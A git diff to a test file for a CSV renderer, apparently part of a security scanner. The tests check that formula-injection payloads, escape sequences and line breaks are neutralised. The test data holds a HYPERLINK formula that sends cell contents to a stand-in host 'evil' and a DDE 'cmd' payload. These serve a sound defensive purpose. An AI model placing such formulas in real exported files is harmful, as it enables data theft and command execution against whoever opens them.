@@ -1,3 +1,4 @@
+import { visible } from "../text/inert.ts";
 import { describe, expect, it } from "vitest";
 import type { Finding } from "../engine/finding.ts";
 import { SCAN_RESULT_SCHEMA, type ScanResult } from "../engine/result.ts";
@@ -127,11 +128,18 @@ describe("renderCsv", () => {
     const payload = `${trigger}HYPERLINK("http://evil/?x="&A1,"click")`;
     const csv = renderCsv(result([finding({ name: payload, message: payload, evidence: { x: 1 } })]));
     const [, row] = parseCsv(csv.slice(1));
-    expect(row![4]).toBe(`'${payload}`);
-    expect(row![7]).toBe(`'${payload}`);
+    const shown = visible(payload);
+    expect(row![4]).toBe(`'${shown}`);
+    expect(row![7]).toBe(`'${shown}`);
     // No cell of the data row begins with a trigger character once the quote is stripped.
     for (const cell of row!) expect(cell).not.toMatch(/^[=+\-@\t\r]/);
-    expect(csv).toContain(`"'${trigger}HYPERLINK(""http://evil/?x=""&A1,""click"")"`);
+    expect(csv).toContain(`"'${visible(trigger)}HYPERLINK(""http://evil/?x=""&A1,""click"")"`);
+  });
+
+  it.each(["\n=cmd|' /C calc'!A0", " =1+1", "\r\n@SUM(1)", "\u00a0-2+3"])("guards %j, a formula behind leading whitespace or a line break", (payload) => {
+    const [, row] = rowsOf([finding({ name: payload })]);
+    expect(row![4]!.startsWith("'")).toBe(true);
+    expect(row![4]).not.toMatch(/[\r\n]/);
   });
 
   it("leaves the trigger characters alone when they are not at the start", () => {
@@ -139,13 +147,13 @@ describe("renderCsv", () => {
     expect(row![4]).toBe("a=b+c-d@e");
   });
 
-  it("keeps quotes, commas and newlines inside one quoted cell", () => {
-    const name = 'evil "app",\nsecond line\r\nthird; <b>x</b>';
+  it("keeps quotes and commas inside one quoted cell, and shows line breaks and escapes instead of writing them", () => {
+    const name = 'evil "app",\nsecond line\r\nthird; <b>x</b> \u001b[2J\u202e';
     const csv = renderCsv(result([finding({ name }), finding({ name: "next", fingerprint: "b".repeat(64) })]));
-    expect(csv).toContain('"evil ""app"",\nsecond line\r\nthird; <b>x</b>"');
+    expect(csv).toContain('"evil ""app"",\\x0asecond line\\x0d\\x0athird; <b>x</b> \\x1b[2J\\u202e"');
     const rows = parseCsv(csv.slice(1));
     expect(rows).toHaveLength(3);
-    expect(rows[1]![4]).toBe(name);
+    expect(rows[1]![4]).toBe(visible(name));
     expect(rows[2]![4]).toBe("next");
     expect(rows.every((r) => r.length === CSV_COLUMNS.length)).toBe(true);
   });
